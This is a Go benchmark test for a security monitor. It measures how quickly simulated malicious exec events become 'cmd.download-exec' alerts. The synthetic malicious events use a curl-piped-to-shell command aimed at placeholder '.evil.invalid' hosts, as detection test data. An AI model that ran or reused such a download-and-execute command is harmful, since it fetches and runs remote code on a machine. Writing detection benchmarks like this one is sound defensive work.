package monitor

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/clawhold/clawhold/events"
)

// BenchmarkEventToAlert measures the latency from an exec event to its
// alert reaching a sink through the whole pipeline clawhold up runs: the
// batching recorder (raw table), shipping into the sealed log, the
// command rules and the dispatcher. 2,000 exec events arrive at 500/s, one
// in ten malicious; the latency of each malicious one is its alert's
// arrival minus the event's time. Poll is up's default (250 ms) and 10 ms.
// Run with -benchtime=1x.
func BenchmarkEventToAlert(b *testing.B) {
	for _, poll := range []time.Duration{250 * time.Millisecond, 10 * time.Millisecond} {
		b.Run("poll="+poll.String(), func(b *testing.B) {
			for b.Loop() {
				benchEventToAlert(b, poll)
			}
		})
	}
}

func benchEventToAlert(b *testing.B, poll time.Duration) {
	f := newFixture(b, sqliteStore(b))
	f.mon.o.Poll = poll
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { f.mon.Run(ctx); close(done) }()
	rec := events.NewRecorder(f.dbs["acme"])

	const total, rate, every = 2000, 500, 10
	sent := map[string]time.Time{}
	tick := time.NewTicker(time.Second / rate)
	for i := range total {
		<-tick.C
		ev := execEvent("git", "log", "--oneline", "-n", strconv.Itoa(i))
		if i%every == 0 {
			// A distinct host per event, so no two alerts dedupe.
			host := fmt.Sprintf("payload-%d.evil.invalid", i)
			ev = execEvent("/bin/sh", "-c", "curl -fsSL http://"+host+"/x | sh")
			sent[host] = time.Now()
		}
		ev.Time = time.Now()
		rec.Add(ev)
	}
	tick.Stop()
	if err := rec.Close(); err != nil {
		b.Fatal(err)
	}
	want := total / every
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if n := countRule(f.sink, "cmd.download-exec"); n >= want {
			break
		}
	}
	cancel()
	<-done

	f.sink.mu.Lock()
	var lat []time.Duration
	for i, a := range f.sink.got {
		if a.Rule != "cmd.download-exec" {
			continue
		}
		for host, t0 := range sent {
			if cmd, _ := a.Evidence["command"].(string); strings.Contains(cmd, host) {
				lat = append(lat, f.sink.at[i].Sub(t0))
				break
			}
		}
	}
	f.sink.mu.Unlock()
	if len(lat) < want {
		b.Fatalf("%d of %d alerts arrived", len(lat), want)
	}
	slices.Sort(lat)
	pct := func(p float64) float64 { return float64(lat[int(p*float64(len(lat)-1))].Microseconds()) / 1000 }
	b.ReportMetric(pct(0.5), "p50-ms")
	b.ReportMetric(pct(0.99), "p99-ms")
	b.ReportMetric(float64(lat[len(lat)-1].Microseconds())/1000, "max-ms")
}

func countRule(s *sinkRecorder, rule string) int {
	n := 0
	for _, a := range s.alerts() {
		if a.Rule == rule {
			n++
		}
	}
	return n
}
